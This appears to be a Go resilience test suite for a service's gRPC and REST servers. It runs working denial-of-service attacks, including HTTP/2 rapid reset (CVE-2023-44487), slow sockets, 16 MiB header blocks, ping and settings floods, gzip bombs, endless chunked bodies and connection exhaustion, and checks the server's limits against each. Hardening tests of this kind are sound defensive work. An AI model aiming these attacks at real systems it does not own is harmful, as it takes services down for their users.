package abuse_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"beltwright.example/services/platform/serve"
)

// harm is what an attack did, in the unit that it aims at. Up to the bound the
// server is well.
type harm struct {
	what          string
	amount, bound int64
}

func (h harm) String() string { return fmt.Sprintf("%d %s (bound %d)", h.amount, h.what, h.bound) }

// attack is one way to do harm.
type attack struct {
	name string
	// small and full are its sizes in the checks and by hand.
	small, full int
	// run attacks with that size. Errors are the server's defence, as a rule, so
	// none is returned: only the harm counts.
	run func(ctx context.Context, x target, size int) harm
	// crowd says that all places for connections are taken: whoever comes new is
	// turned away for as long as that lasts.
	crowd bool
	// still says that it costs no work, so that it may be tried on both at once.
	still bool
}

func (a attack) size() int { return sized(a.small, a.full) }

// memory is the bound of the process's memory, in MiB.
const memory = 256

func attacks() []attack {
	return []attack{
		{name: "streams opened and reset", small: 20_000, full: 1_000_000, run: rapidReset},
		{name: "sockets that say almost nothing", small: 400, full: 2_000, run: slowSockets, still: true},
		{name: "headers of 16 MiB", small: 24, full: 200, run: hugeHeaders},
		{name: "pings", small: 20_000, full: 1_000_000, run: pingFlood},
		{name: "settings", small: 600_000, full: 4_000_000, run: settingsFlood},
		{name: "compressed bomb to gRPC, MiB", small: 160, full: 1024, run: bombToCalls},
		{name: "compressed bomb to REST, MiB", small: 160, full: 1024, run: bombToREST},
		{name: "JSON body, MiB", small: 16, full: 256, run: hugeJSON},
		{name: "body without an end, to a JSON route, MiB", small: 64, full: 1024, run: endless("/v1/fitment:findDonors", "application/json")},
		{name: "line without an end, to an import, MiB", small: 64, full: 1024, run: endless("/v1/listings:import?owner=crowfoot-salvage", "text/csv")},
		{name: "photo without an end, MiB", small: 64, full: 1024, run: endless("/v1/attachments", "image/jpeg")},
		{name: "connections of one address", small: 1_000, full: 5_000, run: connections(1)},
		{name: "connections of many addresses", small: 3_000, full: 8_000, run: connections(200), crowd: true},
	}
}

// webAttacks are those on REST by HTTPS, where clients may ask for HTTP/2.
func webAttacks() []attack {
	return []attack{
		{name: "streams opened and reset by HTTPS", small: 20_000, full: 1_000_000, run: rapidResetWeb},
		{name: "sockets that say almost nothing before TLS", small: 200, full: 1_000, run: slowSocketsWeb, still: true},
	}
}

// each runs something n times at once and waits for all.
func each(n int, do func(i int)) {
	var all sync.WaitGroup
	for i := range n {
		all.Go(func() { do(i) })
	}
	all.Wait()
}

// rapidReset opens streams and resets them at once (CVE-2023-44487): each costs the
// attacker two small frames and the server a handler. It goes on until all were sent,
// or for a while where the server is slow to read them.
func rapidReset(ctx context.Context, x target, size int) harm {
	return x.resets(ctx, size, x.grpc, func(w *wire) (uint32, error) {
		return w.call(w.headers("/beltwright.fitment.v1.FitmentService/ListDialects", x.key), false)
	})
}

// rapidResetWeb is the same by HTTPS.
func rapidResetWeb(ctx context.Context, x target, size int) harm {
	return x.resets(ctx, size, x.rest, func(w *wire) (uint32, error) { return w.call(w.get("/v1/"+listing, x.key), true) })
}

// resets opens streams somewhere and resets them.
func (x target) resets(ctx context.Context, size int, to string, open func(w *wire) (uint32, error)) harm {
	const wires = 4
	ctx, cancel := context.WithTimeout(ctx, sizedTime(2*time.Second, 60*time.Second))
	defer cancel()
	done := make(chan struct{})
	most := x.threadsOfWork(done)
	var sent atomic.Int64
	each(wires, func(int) {
		w, err := x.open(ctx, to, true)
		if err != nil {
			return
		}
		defer w.close()
		for range size / wires {
			id, err := open(w)
			if err == nil {
				err = w.frames.WriteRSTStream(id, http2.ErrCodeCancel)
			}
			if err != nil {
				return
			}
			sent.Add(1)
		}
		_ = w.out.Flush()
		// What was sent is worked off before the connection ends.
		_ = w.frames.WritePing(false, [8]byte{1})
		_ = w.out.Flush()
		waitFor(ctx, func() bool { return w.acks.Load() > 1 }, 2*time.Second)
	})
	close(done)
	// A handler is a goroutine; beside it stand a few for each connection.
	return harm{fmt.Sprintf("handlers at once, of %d streams sent", sent.Load()), <-most, wires*int64(serve.Defaults().MaxStreams) + 64}
}

// waitFor polls until a condition holds or time is up.
func waitFor(ctx context.Context, holds func() bool, most time.Duration) {
	limit := time.NewTimer(most)
	defer limit.Stop()
	tick := time.NewTicker(10 * time.Millisecond)
	defer tick.Stop()
	for !holds() {
		select {
		case <-ctx.Done():
			return
		case <-limit.C:
			return
		case <-tick.C:
		}
	}
}

// threadsOfWork watches how many goroutines the process has more than at the
// beginning, until done.
func (x target) threadsOfWork(done <-chan struct{}) <-chan int64 {
	most := make(chan int64, 1)
	before := x.goroutines()
	go func() {
		tick := time.NewTicker(20 * time.Millisecond)
		defer tick.Stop()
		var peak int64
		for {
			select {
			case <-done:
				most <- peak
				return
			case <-tick.C:
				peak = max(peak, x.goroutines()-before)
			}
		}
	}()
	return most
}

// goroutines asks the process's profile; 0 where it does not answer.
func (x target) goroutines() int64 {
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
	defer cancel()
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "http://"+x.admin+"/debug/pprof/goroutine?debug=1", http.NoBody)
	if err != nil {
		return 0
	}
	answer, err := (&http.Client{Transport: &http.Transport{DisableKeepAlives: true}}).Do(request)
	if err != nil {
		return 0
	}
	defer func() { _ = answer.Body.Close() }()
	var total int64
	_, _ = fmt.Fscanf(answer.Body, "goroutine profile: total %d", &total)
	return total
}

// patience is how long slow sockets are looked at: the server gives a connection 5 s
// to say something sensible.
const patience = 7 * time.Second

// slowSockets opens sockets that say nothing, or a little again and again.
func slowSockets(ctx context.Context, x target, size int) harm {
	return x.slowly(ctx, size, []opening{
		{x.rest, "", ""},
		{x.rest, "GET /v1/listings HTTP/1.1\r\nHost: x\r\n", "X-A: b\r\n"},
		{x.grpc, "", ""},
		{x.grpc, "PRI * HTTP/2.0\r\n", "\r"},
	})
}

// slowSocketsWeb does so before a TLS connection is made: silence, or the beginning
// of a record of 16 KiB (RFC 8446 §5.1) and then byte by byte.
func slowSocketsWeb(ctx context.Context, x target, size int) harm {
	return x.slowly(ctx, size, []opening{{x.rest, "", ""}, {x.rest, "\x16\x03\x01\x40\x00", "\x01"}})
}

// opening is where a slow socket goes and what it says: first, and again and again.
type opening struct{ to, begin, drip string }

func (x target) slowly(ctx context.Context, size int, openings []opening) harm {
	var open atomic.Int64
	end := time.Now().Add(patience)
	each(size, func(i int) {
		kind := openings[i%len(openings)]
		conn, err := x.connect(ctx, kind.to)
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		if _, err := io.WriteString(conn, kind.begin); err != nil {
			return
		}
		for time.Now().Before(end) {
			var one [64]byte
			_ = conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
			_, err := conn.Read(one[:])
			if err != nil && !errors.Is(err, os.ErrDeadlineExceeded) {
				return
			}
			if _, err := io.WriteString(conn, kind.drip); err != nil {
				return
			}
		}
		open.Add(1)
	})
	return harm{"sockets still open after 7 s", open.Load(), 0}
}

// hugeHeaders sends headers of 16 MiB, to gRPC in frames and to REST in lines, over
// many connections, so many at once that a server that keeps them has no room. More
// would only take the processor from the bystander, who shares it with the attacker.
func hugeHeaders(ctx context.Context, x target, size int) harm {
	const atOnce = 24
	for left := size; left > 0; left -= atOnce {
		x.headersAtOnce(ctx, min(left, atOnce))
	}
	return harm{"MiB of memory at most", x.peak(), memory}
}

// headersAtOnce sends them and keeps the connections until all are sent.
func (x target) headersAtOnce(ctx context.Context, size int) {
	var sent sync.WaitGroup
	sent.Add(size)
	pad := strings.Repeat("a", 8000)
	each(size, func(i int) {
		finish := sync.OnceFunc(sent.Done)
		defer finish()
		if i%2 == 0 {
			w, err := x.open(ctx, x.grpc, false)
			if err != nil {
				return
			}
			defer w.close()
			_ = w.hugeBlock(pad)
		} else {
			conn, err := x.connect(ctx, x.rest)
			if err != nil {
				return
			}
			defer func() { _ = conn.Close() }()
			_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
			if _, err := io.WriteString(conn, "GET / HTTP/1.1\r\nHost: x\r\n"); err != nil {
				return
			}
			for n := range 16 * mebi / len(pad) {
				if _, err := fmt.Fprintf(conn, "X-%d: %s\r\n", n, pad); err != nil {
					return
				}
			}
		}
		finish()
		sent.Wait()
	})
}

// hugeBlock sends a header block of 16 MiB in a HEADERS frame and CONTINUATIONs.
func (w *wire) hugeBlock(pad string) error {
	first := w.headers("/beltwright.fitment.v1.FitmentService/ListDialects", "")
	if err := w.frames.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}); err != nil {
		return err
	}
	for n := range 16 * mebi / len(pad) {
		w.block.Reset()
		_ = w.pack.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", n), Value: pad, Sensitive: true})
		if err := w.frames.WriteContinuation(1, false, w.block.Bytes()); err != nil {
			return err
		}
	}
	return w.out.Flush()
}

// pingFlood sends pings; each wants an answer.
func pingFlood(ctx context.Context, x target, size int) harm {
	w, err := x.open(ctx, x.grpc, true)
	if err != nil {
		return harm{"pings answered", 0, 100}
	}
	defer w.close()
	for range size {
		if w.frames.WritePing(false, [8]byte{}) != nil {
			break
		}
	}
	_ = w.out.Flush()
	waitFor(ctx, func() bool { return w.acks.Load() > 100 }, time.Second)
	return harm{"pings answered", w.acks.Load(), 100}
}

// settingsFlood sends settings and never reads the answers that each wants.
func settingsFlood(ctx context.Context, x target, size int) harm {
	to, wait := x.grpc, time.Second
	if x.naive != "" {
		to, wait = x.naive, 10*time.Second // until what was sent is worked off
	}
	ctx, cancel := context.WithTimeout(ctx, wait+sizedTime(2*time.Second, 20*time.Second))
	defer cancel()
	each(4, func(int) {
		w, err := x.open(ctx, to, false)
		if err != nil {
			return
		}
		defer w.close()
		for range size / 4 {
			if w.frames.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14}) != nil {
				return
			}
		}
		_ = w.out.Flush()
		waitFor(ctx, func() bool { return x.peak() > memory }, wait)
	})
	return harm{"MiB of memory at most", x.peak(), memory}
}

func sizedTime(small, full time.Duration) time.Duration {
	return time.Duration(sized(int(small), int(full)))
}

// bombs are made once for each size: packing them keeps a processor busy.
var bombs sync.Map //nolint:gochecknoglobals // a cache

// bomb is so many MiB of spaces, compressed about a thousandfold.
func bomb(size int) []byte {
	if made, ok := bombs.Load(size); ok {
		return made.([]byte)
	}
	var packed bytes.Buffer
	out, _ := gzip.NewWriterLevel(&packed, gzip.BestCompression) // the level exists
	blank := bytes.Repeat([]byte{' '}, mebi)
	for range size {
		_, _ = out.Write(blank) // a buffer takes everything
	}
	_ = out.Close()
	bombs.Store(size, packed.Bytes())
	return packed.Bytes()
}

// bombToCalls sends a compressed message that is large once it is unpacked.
func bombToCalls(ctx context.Context, x target, size int) harm {
	packed := bomb(size)
	each(2, func(int) {
		w, err := x.open(ctx, x.grpc, true)
		if err != nil {
			return
		}
		defer w.close()
		id, err := w.call(w.headers("/beltwright.fitment.v1.FitmentService/ListDialects", x.key, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"}), false)
		if err != nil || w.out.Flush() != nil {
			return
		}
		_ = w.data(id, message(true, packed))
		waitFor(ctx, func() bool { return w.status.Load() >= 0 }, 15*time.Second)
	})
	return harm{"MiB of memory at most", x.peak(), memory}
}

// post begins a POST to REST.
func (x target) post(ctx context.Context, path, more string) (net.Conn, error) {
	conn, err := x.connect(ctx, x.rest)
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(sizedTime(15*time.Second, 60*time.Second)))
	_, err = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\n%s\r\n", path, x.key, more)
	return conn, err
}

// bombToREST sends a compressed body.
func bombToREST(ctx context.Context, x target, size int) harm {
	packed := bomb(size)
	each(2, func(int) {
		conn, err := x.post(ctx, "/v1/fitment:findDonors", fmt.Sprintf("Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n", len(packed)))
		if err != nil {
			return
		}
		defer func() { _ = conn.Close() }()
		_, _ = conn.Write(packed)
		answer(conn)
	})
	return harm{"MiB of memory at most", x.peak(), memory}
}

// hugeJSON sends a large body of valid JSON.
func hugeJSON(ctx context.Context, x target, size int) harm {
	conn, err := x.post(ctx, "/v1/fitment:findDonors", fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n", size*mebi))
	if err == nil {
		defer func() { _ = conn.Close() }()
		part := bytes.Repeat([]byte("1,"), mebi/2)
		for i := range size {
			whole := bytes.Clone(part)
			if i == 0 {
				whole[0], whole[1] = '[', ' '
			}
			if i == size-1 {
				copy(whole[len(whole)-2:], "1]")
			}
			if _, err := conn.Write(whole); err != nil {
				break
			}
		}
		answer(conn)
	}
	return harm{"MiB of memory at most", x.peak(), memory}
}

// takenBound is how many MiB of a body without an end may be taken: what may be
// uploaded, and what lies in the kernel's buffers.
const takenBound = 48

// endless sends a chunked body of one line that never ends.
func endless(path, kind string) func(ctx context.Context, x target, size int) harm {
	return func(ctx context.Context, x target, size int) harm {
		var taken int64
		conn, err := x.post(ctx, path, "Content-Type: "+kind+"\r\nTransfer-Encoding: chunked\r\n")
		if err == nil {
			defer func() { _ = conn.Close() }()
			part := bytes.Repeat([]byte{'['}, mebi)
			if kind == "image/jpeg" {
				part[0], part[1], part[2] = 0xff, 0xd8, 0xff // how a JPEG begins
			}
			for range size {
				_, err := fmt.Fprintf(conn, "%x\r\n%s\r\n", len(part), part)
				if err != nil {
					break
				}
				taken++
			}
		}
		return harm{"MiB taken", taken, takenBound}
	}
}

// connections opens connections and keeps them, from so many addresses.
func connections(addresses int) func(ctx context.Context, x target, size int) harm {
	bound := serve.DefaultPerAddress
	if addresses > 1 {
		bound = serve.DefaultConnections
	}
	return func(ctx context.Context, x target, size int) harm {
		var open sync.Map
		before := x.sockets()
		each(8, func(worker int) {
			for i := worker; i < size; i += 8 {
				to := x.rest
				if i%2 == 0 {
					to = x.grpc
				}
				own := dialer(fmt.Sprintf("127.0.%d.9", 1+i%addresses))
				conn, err := own.DialContext(ctx, "tcp", to)
				if err != nil {
					continue
				}
				open.Store(i, conn)
			}
		})
		waitFor(ctx, func() bool { return x.sockets()-before > size*9/10 }, time.Second)
		held := x.sockets() - before
		open.Range(func(_, conn any) bool {
			_ = conn.(net.Conn).Close()
			return true
		})
		return harm{"connections kept", int64(held), int64(2*bound + 64)}
	}
}
